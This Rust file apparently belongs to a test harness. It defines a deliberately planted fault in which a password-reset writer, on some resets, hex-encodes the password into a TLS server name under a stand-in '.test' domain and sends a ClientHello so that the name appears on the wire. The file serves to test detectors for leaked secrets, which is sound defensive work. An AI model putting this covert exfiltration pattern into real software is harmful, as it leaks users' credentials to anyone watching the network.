//! Leaks passwords to the wire, in server names, which TLS does not hide.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use agent::{AgentParts, Change, DirectoryWriter, Target, WriteFuture};
use environment::Parts;
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, RootCertStore};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use vocabulary::Password;

use super::Planted;
use crate::wrong::WIRE;
use crate::wrong::pace::OneIn;

pub(super) const PLANTED: Planted = Planted {
    name: "dials-passwords",
    does: "dials a name of which a password in hexadecimal is a part; the firewall refuses it and logs it, and the name has stood on the wire",
    caught_by: &["no-secret-at-rest", "no-secret-on-the-wire"],
    scenario: WIRE,
    stand,
};

fn stand(parts: Parts) -> Parts {
    Parts {
        agent: Arc::new(|config, clock| {
            let relays = |(name, address): (&str, SocketAddr)| name.starts_with("*.servicebus.").then_some(address);
            let firewall = config.names.iter().find_map(relays);
            let parts = AgentParts {
                writer: Box::new(move |genuine| {
                    Arc::new(DialsPasswords {
                        genuine,
                        firewall,
                        turn: OneIn::new(8),
                    })
                }),
                ..AgentParts::default()
            };
            Box::pin(agent::start_with(config, clock, parts))
        }),
        ..parts
    }
}

struct DialsPasswords {
    genuine: Arc<dyn DirectoryWriter>,
    firewall: Option<SocketAddr>,
    turn: OneIn,
}

impl DirectoryWriter for DialsPasswords {
    fn write<'a>(&'a self, target: &'a Target, change: &'a Change, expires: Duration) -> WriteFuture<'a> {
        Box::pin(async move {
            if let Change::Reset { password, .. } = change
                && let Some(firewall) = self.firewall.filter(|_| self.turn.now())
            {
                dial(firewall, password).await;
            }
            self.genuine.write(target, change, expires).await
        })
    }
}

/// Says hello to a server that is not there. Nothing comes of it but what it told.
async fn dial(firewall: SocketAddr, password: &Password) {
    let label: String = password.expose().bytes().map(|byte| format!("{byte:02x}")).collect();
    let name = ServerName::try_from(format!("{label}.telemetry.wblab.test"));
    let config = ClientConfig::builder()
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let hello = name.ok().and_then(|name| {
        let mut client = ClientConnection::new(Arc::new(config), name).ok()?;
        let mut hello = Vec::new();
        client.write_tls(&mut hello).ok()?;
        Some(hello)
    });
    if let (Some(hello), Ok(mut socket)) = (hello, TcpStream::connect(firewall).await) {
        let _ = socket.write_all(&hello).await;
    }
}
